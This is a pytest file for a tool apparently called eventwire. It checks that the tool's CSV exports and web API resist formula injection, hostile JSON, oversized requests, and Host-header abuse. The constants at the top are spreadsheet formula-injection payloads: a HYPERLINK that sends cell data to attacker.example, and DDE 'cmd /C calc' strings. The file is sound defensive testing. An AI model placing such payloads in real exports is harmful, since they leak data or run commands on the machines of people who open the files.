"""Hardening round two (issue 14) of what the server and the exports hand out: CSV formula injection."""

from __future__ import annotations

import asyncio
import csv
import io
import shutil
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from eventwire.cli import main
from eventwire.web.app import TOKEN_ENV, build_datasette

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"details")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS_FORMULA = "+1+cmd|' /C calc'!A0"


def _get(ds: Any, path: str) -> Any:
    return asyncio.run(ds.client.get(path))


@pytest.fixture
def poisoned_db(db_copy: Path) -> Path:
    """The served database with hostile text where an outside feed could put it."""
    with sqlite3.connect(db_copy) as conn:
        conn.execute("UPDATE articles SET title = ?, outlet = ?, doc = ?", [FORMULA, AT_FORMULA, PLUS_FORMULA])
        conn.execute("UPDATE mentions SET doc = ?", [PLUS_FORMULA])
        conn.execute("UPDATE events SET actor_name = ?, actor_text = ?", [FORMULA, FORMULA])
        conn.execute("UPDATE mentions SET actor_name = ?, actor_text = ?", [FORMULA, FORMULA])
    return db_copy


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    assert not risky, risky


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("table", ["articles", "events", "mentions"])
def test_datasette_csv_neutralises_formula_cells(poisoned_db: Path, table: str) -> None:
    ds = build_datasette(poisoned_db)
    for query in ("", "?_dl=1", "?_size=max"):
        response = _get(ds, f"/{poisoned_db.stem}/{table}.csv{query}")
        assert response.status_code == 200
        cells = _cells(response.text)
        _assert_no_formula(cells)
        assert ("'" + FORMULA in cells) or ("'" + PLUS_FORMULA in cells)


def test_datasette_csv_keeps_negative_coordinates_as_numbers(poisoned_db: Path) -> None:
    with sqlite3.connect(poisoned_db) as conn:
        conn.execute("UPDATE events SET lat = -33.9, lon = -70.65")
    text = _get(build_datasette(poisoned_db), f"/{poisoned_db.stem}/events.csv?_col=lat&_col=lon").text
    assert "-33.9" in _cells(text) and "-70.65" in _cells(text)


@pytest.mark.parametrize("fmt", ["csv", "acled"])
def test_events_export_neutralises_formula_cells(poisoned_db: Path, fmt: str) -> None:
    result = CliRunner().invoke(main, ["events", "--db", str(poisoned_db), "--format", fmt])
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    assert len(cells) > 40
    _assert_no_formula(cells)
    # csv: the doc column; acled: actor1 and source.
    assert ("'" + PLUS_FORMULA if fmt == "csv" else "'" + FORMULA) in cells


# The API: hostile JSON, limits, a worker that does not hold up the server ----------------------------------

TOKEN = "s3cret-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}


def _post(ds: Any, path: str, **kwargs: Any) -> Any:
    return asyncio.run(ds.client.post(path, **kwargs))


@pytest.fixture
def api_server(served_db: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv(TOKEN_ENV, TOKEN)
    return build_datasette(served_db, token=True, max_chars=2000)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"[" * 5000, "nested too deeply"),
        (b'{"text": ' + b"[" * 100_000, "nested too deeply"),
        (b'{"text": "a", "n": ' + b"9" * 5000 + b"}", "number is too long"),
        (b'{"text": "\xff\xfe"}', "not UTF-8"),
        (b'{"text": "a",', "body is not JSON"),
    ],
)
@pytest.mark.parametrize("endpoint", ["/-/eventwire/extract", "/-/eventwire/ingest"])
def test_hostile_json_gets_a_json_400(api_server: Any, endpoint: str, body: bytes, reason: str) -> None:
    response = _post(api_server, endpoint, content=body, headers=AUTH)
    assert response.status_code == 400
    assert response.headers["content-type"].startswith("application/json")
    assert response.json()["ok"] is False and reason in response.json()["error"]


@pytest.mark.parametrize("endpoint", ["/-/eventwire/extract", "/-/eventwire/ingest"])
def test_text_over_max_chars_is_refused_before_any_work(api_server: Any, endpoint: str) -> None:
    response = _post(api_server, endpoint, json={"text": "Police arrested protesters. " * 100}, headers=AUTH)
    assert response.status_code == 413
    assert "2000 characters" in response.json()["error"] and "--max-chars" in response.json()["error"]


@pytest.mark.parametrize("path", ["/{db}/events?_sort=nonexistent", "/{db}/events.json?_sort_desc=nope"])
def test_sorting_by_a_missing_column_is_a_400(served_db: Path, path: str) -> None:
    response = _get(build_datasette(served_db), path.format(db=served_db.stem))
    assert response.status_code == 400
    assert "Cannot sort table by" in response.text


def test_error_log_is_one_line_without_request_data(served_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    secret = "body-or-parameter-secret-1234"
    _get(build_datasette(served_db), f"/{served_db.stem}/events.json?_sort={secret}&_x={secret}2")
    logged = capsys.readouterr()
    lines = (logged.out + logged.err).splitlines()
    assert lines == [
        f"eventwire serve: 400 GET /{served_db.stem}/events.json: DatasetteError: Cannot sort table by {secret}"
    ]


def test_busy_worker_answers_503_at_once() -> None:
    from eventwire.parallel import ExtractorSpec
    from eventwire.web.api import MAX_PENDING, ApiError, _Pool

    pool = _Pool(ExtractorSpec())
    pool.pending = MAX_PENDING
    with pytest.raises(ApiError) as refused:
        asyncio.run(pool.run(len, "x"))
    assert refused.value.status == 503 and pool.workers is None


def test_time_limit_applies_and_other_requests_are_served_meanwhile(
    served_db: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from eventwire.web import api

    monkeypatch.setenv(TOKEN_ENV, TOKEN)
    ds = build_datasette(served_db, token=True, time_limit=0.5)
    text = "Police fired tear gas at protesters in Lagos on Monday, witnesses said. " * 400  # ~29,000 chars

    async def scenario() -> tuple[Any, list[float], float]:
        loop = asyncio.get_running_loop()
        started = loop.time()
        post = asyncio.create_task(ds.client.post("/-/eventwire/extract", json={"text": text}, headers=AUTH))
        answered: list[float] = []
        while not post.done():
            page = await ds.client.get(f"/{served_db.stem}/events.json?_size=5")
            assert page.status_code == 200
            answered.append(loop.time() - started)
            await asyncio.sleep(0.2)
        return await post, answered, loop.time() - started

    try:
        response, answered, took = asyncio.run(scenario())
    finally:
        api.shutdown()
    assert response.status_code == 422, response.text
    assert response.json()["error"] == "timed out after 0.5 s (eventwire serve --time-limit)"
    # Pages kept coming while the worker loaded its model and worked: none waited for it.
    assert len(answered) >= 3 and answered[-1] < took


# What the server gives away: Host, CSP, paths, logs -----------------------------------------------------


def test_a_request_for_another_host_is_refused(served_db: Path) -> None:
    ds = build_datasette(served_db)
    db = served_db.stem
    for host in ("evil.example", "evil.example:8001", "127.0.0.1.evil.example"):
        response = asyncio.run(ds.client.get(f"/{db}/events.json", headers={"Host": host}))
        assert response.status_code == 421, host
        assert response.json()["ok"] is False
    for host in ("localhost", "localhost:8001", "127.0.0.1:8001", "[::1]:8001"):
        assert asyncio.run(ds.client.get(f"/{db}/events.json", headers={"Host": host})).status_code == 200, host


def test_a_server_on_every_address_answers_any_host(served_db: Path) -> None:
    ds = build_datasette(served_db, host="0.0.0.0")
    response = asyncio.run(ds.client.get(f"/{served_db.stem}/events.json", headers={"Host": "events.example.org"}))
    assert response.status_code == 200


def test_every_answer_carries_a_content_security_policy(served_db: Path) -> None:
    ds = build_datasette(served_db, tile_url="https://tiles.example.org/{z}/{x}/{y}.png")
    for path in ("/", f"/{served_db.stem}/events", "/-/eventwire/map", "/nope", "/-/eventwire/event/nope"):
        policy = _get(ds, path).headers["content-security-policy"]
        assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy and "object-src 'none'" in policy
        assert "img-src 'self' data: https://tiles.example.org;" in policy
    assert "tiles.example.org" not in _get(build_datasette(served_db), "/").headers["content-security-policy"]


def test_databases_json_shows_no_absolute_path(served_db: Path) -> None:
    ds = build_datasette(served_db)
    listed = _get(ds, "/-/databases.json").json()
    assert [entry["path"] for entry in listed] == [served_db.name]
    for path in ("/-/databases.json", "/-/databases"):
        assert str(served_db.parent) not in _get(ds, path).text


def test_server_log_holds_no_request_body(
    db_copy: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from eventwire.web import api

    def broken(body: bytes) -> Any:
        raise RuntimeError("a bug while parsing")

    monkeypatch.setenv(TOKEN_ENV, TOKEN)
    monkeypatch.setattr(api, "parse_json", broken)
    secret = "SECRET-BODY-7f3a9"
    response = _post(build_datasette(db_copy, token=True), "/-/eventwire/extract", json={"text": secret}, headers=AUTH)
    assert response.status_code == 500
    assert response.json() == {"ok": False, "error": "internal error", "status": 500, "title": None}
    logged = capsys.readouterr()
    assert "RuntimeError: a bug while parsing" in logged.err
    assert secret not in logged.out + logged.err


@pytest.mark.slow
def test_slow_unauthenticated_uploads_hold_no_memory(served_db: Path, tmp_path: Path) -> None:
    """scripts/probe_slow_bodies.py against a real `eventwire serve` on 127.0.0.1 (100 connections, 8 s at most)."""
    import subprocess
    import sys

    db = tmp_path / "events.db"
    shutil.copy(served_db, db)
    script = Path(__file__).resolve().parents[2] / "scripts" / "probe_slow_bodies.py"
    command = [
        sys.executable,
        str(script),
        "--db",
        str(db),
        "--connections",
        "100",
        "--seconds",
        "8",
        "--auth",
        "wrong",
    ]
    result = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True)
    growth = float(result.stdout.split("(+")[1].split(" MiB")[0])
    assert growth < 30, result.stdout
    assert "'401': 100" in result.stdout, result.stdout
